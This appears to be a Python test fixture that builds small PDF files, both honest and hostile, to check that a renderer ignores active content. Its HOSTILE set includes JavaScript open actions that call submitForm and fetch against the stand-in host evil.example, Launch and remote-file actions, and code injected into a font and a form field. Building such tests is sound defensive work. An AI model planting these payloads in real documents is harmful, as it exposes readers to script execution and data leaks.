"""PDF files, honest and hostile, made by hand: every object is a few words."""

from __future__ import annotations

from collections.abc import Mapping

FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf(objects: Mapping[int, str], *, has_table: bool = True) -> bytes:
    """A file of numbered objects; 1 is the catalog."""
    made, places = bytearray(b"%PDF-1.7\n"), {}
    for number, text in objects.items():
        places[number] = len(made)
        made += f"{number} 0 obj\n{text}\nendobj\n".encode("latin-1")
    start = len(made) if has_table else 99_999_999
    count = max(objects) + 1
    made += f"xref\n0 {count}\n0000000000 65535 f \n".encode()
    for number in range(1, count):
        made += f"{places.get(number, 0):010} 00000 n \n".encode()
    made += f"trailer\n<< /Size {count} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(made)


def stream(content: str) -> str:
    return f"<< /Length {len(content)} >>\nstream\n{content}\nendstream"


def said(words: str) -> str:
    return stream(f"BT /F1 24 Tf 72 700 Td ({words}) Tj ET")


def document(
    *,
    box: str = "0 0 612 792",
    catalog: str = "",
    page: str = "",
    more: Mapping[int, str] | None = None,
    has_table: bool = True,
) -> bytes:
    """One page that says what a scale says."""
    sheet = (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 5 0 R "
        f"/Resources << /Font << /F1 4 0 R >> >> {page} >>"
    )
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: sheet,
        4: FONT,
        5: said("Weighed and found"),
        **(more or {}),
    }
    return pdf(objects, has_table=has_table)


def many(pages: int) -> bytes:
    """So many pages; each says its number."""
    sheets = range(4, 4 + 2 * pages, 2)
    kids = " ".join(f"{number} 0 R" for number in sheets)
    objects = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>",
        3: FONT,
    }
    for at, number in enumerate(sheets, start=1):
        objects[number] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents {number + 1} 0 R "
            "/Resources << /Font << /F1 3 0 R >> >> >>"
        )
        objects[number + 1] = said(f"Sheet {at}").replace("72 700", "40 300")
    return pdf(objects)


def annotated(action: str, *, kind: str = "/Link", extra: str = "") -> bytes:
    """A page that is all one link with an action."""
    note = f"<< /Type /Annot /Subtype {kind} /Rect [0 0 612 792] /A {action} {extra} >>"
    return document(page="/Annots [6 0 R]", more={6: note})


HARM = "app.alert(1); this.submitForm('//evil.example'); fetch('//evil.example'); top.harmed = 1"
# What they try; each page must be painted as if they did not.
HOSTILE = {
    "a script at the opening": document(
        catalog=f"/OpenAction << /S /JavaScript /JS ({HARM.replace('(', '[').replace(')', ']')}) >>"
    ),
    "named scripts": document(
        catalog="/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
        more={6: "<< /S /JavaScript /JS (top.harmed = 1) >>"},
    ),
    "a program": annotated("<< /S /Launch /F (/bin/true) /NewWindow true >>"),
    "a link": annotated("<< /S /URI /URI (javascript:top.harmed=1) >>"),
    "another server": annotated("<< /S /URI /URI (http://evil.example/) >>"),
    "a form that is sent": document(
        catalog="/AcroForm << /Fields [6 0 R] /NeedAppearances true /XFA (<xdp/>) >>",
        page="/Annots [6 0 R]",
        more={
            6: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 9 9] "
            "/AA << /K << /S /JavaScript /JS (top.harmed = 1) >> >> >>"
        },
    ),
    "code in a font": document(
        more={
            4: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix "
            "[1 0 0 1 0 (1\\); top.harmed = 1; //)] >>"
        }
    ),
    "a file from elsewhere": document(
        page="/AA << /O << /S /GoToR /F (http://evil.example/a.pdf) /D [0 /Fit] >> >>"
    ),
    "a lost table": document(has_table=False),
    "a huge page": document(box="0 0 2000000 3000000"),
    "no height": document(box="0 0 612 0"),
    "a tree that bites its tail": pdf(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        }
    ),
}
# What cannot be shown, with the word for it.
REFUSED = {
    "nothing behind the head": (b"%PDF-1.7\n", "broken"),
    "noise": (b"%PDF-1.7\n" + bytes(range(256)) * 400, "broken"),
}
